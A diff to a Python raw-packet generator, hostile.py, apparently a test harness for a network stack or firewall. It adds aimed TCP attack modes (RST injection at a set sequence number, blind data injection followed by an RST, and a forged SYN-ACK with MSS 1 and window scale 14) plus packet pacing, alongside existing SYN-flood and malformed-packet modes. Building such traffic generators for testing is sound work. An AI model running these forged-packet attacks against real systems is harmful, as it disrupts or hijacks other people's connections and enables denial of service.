@@ -4,6 +4,7 @@
 
   hostile.py MODE --iface IF --gwmac MAC --dst ADDR --dport PORT --count N
              [--src ADDR] [--sport P] [--seq S] [--ack A] [--seconds T]
+             [--pps R] [--interval T]
 
 Frames are built before the clock starts and written to an AF_PACKET socket
 in a plain loop, so nothing is rewritten on the way out (the kernel would
@@ -19,6 +20,14 @@ Flood modes:
   syn-flow    SYNs with random seq on that 4-tuple (a live flow's)
   syn-one     SYNs from --src, random source ports
   syn-many    SYNs from random sources in 198.18.0.0/15
+Aimed (issue 13), IPv4, for the 4-tuple --src/--sport -> --dst/--dport:
+  rst-at      RSTs at sequence number --seq, --interval seconds apart
+  data-rst    pairs: blind data at a random seq (random ack), then an RST
+              at the end of that data
+  synack      a SYN-ACK acknowledging --ack with MSS 1 and window scale 14
+              (--src/--sport are then the forged server, --dst/--dport
+              the client)
+--pps paces any mode to that many packets a second.
 Malformed (a few of each variant, --count per variant):
   frag        IPv4 SYN in fragments (first only; both halves; tiny 8-byte)
   ipopts      IPv4 SYN with IP options (NOPs + record route, timestamp)
@@ -105,6 +114,26 @@ class Gen:
         mss = b"\x02\x04\x05\xb4"
         return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, random.getrandbits(32),
                      0, SYN, opts=mss) for _ in range(n)]
+
+    def rst_at(self, n):
+        return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, self.a.seq, 0, RST)
+                for _ in range(n)]
+
+    def data_rst(self, n):
+        out = []
+        pay = b"HOSTILE-INJECTED\r\n"
+        for _ in range(n):
+            seq = random.getrandbits(32)
+            out.append(tcp4(self.src, self.dst, self.a.sport, self.a.dport, seq,
+                            random.getrandbits(32), ACK | PSH, payload=pay))
+            out.append(tcp4(self.src, self.dst, self.a.sport, self.a.dport,
+                            (seq + len(pay)) % (1 << 32), 0, RST))
+        return out
+
+    def synack(self, n):
+        opts = b"\x02\x04\x00\x01\x01\x03\x03\x0e"       # MSS 1, NOP, WS 14
+        return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, random.getrandbits(32),
+                     self.a.ack, SYN | ACK, opts=opts) for _ in range(n)]
 
     def syn_one(self, n):
         r = random.getrandbits
@@ -272,12 +301,18 @@ def main():
     ap.add_argument("--count", type=int, default=10)
     ap.add_argument("--seconds", type=float, default=0,
                     help="stop sending after this long (0: send all)")
+    ap.add_argument("--seq", type=lambda v: int(v, 0), default=0)
+    ap.add_argument("--ack", type=lambda v: int(v, 0), default=0)
+    ap.add_argument("--pps", type=float, default=0, help="packets a second (0: at once)")
+    ap.add_argument("--interval", type=float, default=0,
+                    help="seconds between packets (rst-at)")
     a = ap.parse_args()
     if a.count < 1 or a.count > 5000000:
         sys.exit("--count must be 1..5000000")
     if a.src is None and a.mode != "syn-many":
         sys.exit("--src needed")
-    if a.mode in ("blind-rst", "blind-data", "syn-flow") and not a.sport:
+    if a.mode in ("blind-rst", "blind-data", "syn-flow", "rst-at", "data-rst", "synack") and \
+            not a.sport:
         sys.exit("--sport needed")
     g = Gen(a)
     modes = MALFORMED if a.mode == "malformed" else [a.mode]
@@ -303,7 +338,13 @@ def main():
         open(a.ready_file, "w").close()
     t0 = time.monotonic()
     deadline = t0 + a.seconds if a.seconds > 0 else None
+    gap = a.interval or (1.0 / a.pps if a.pps > 0 else 0)
     for i, fr in enumerate(frames):
+        if gap and i:
+            # Paced: packet i leaves at t0 + i * gap.
+            wait = t0 + i * gap - time.monotonic()
+            if wait > 0:
+                time.sleep(wait)
         try:
             send(fr)
         except BlockingIOError:
